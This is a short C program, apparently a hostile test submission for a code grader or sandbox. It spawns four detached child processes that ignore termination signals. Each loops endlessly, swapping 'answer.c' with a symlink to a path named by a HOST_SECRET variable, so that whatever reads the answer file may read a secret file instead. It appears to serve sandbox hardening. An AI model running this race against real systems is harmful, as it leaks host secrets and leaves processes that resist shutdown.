#include "hostile.h"
int main(void) {
  for (int i = 0; i < 4; ++i) {
    if (fork() == 0) {
      setsid();
      signal(SIGTERM, SIG_IGN);
      for (;;) {
        unlink("answer.c");
        symlink(getenv("HOST_SECRET"), "answer.c");
        unlink("answer.c");
        close(open("answer.c", O_CREAT | O_WRONLY, 0600));
      }
    }
  }
  usleep(50000);
  return 0;
}
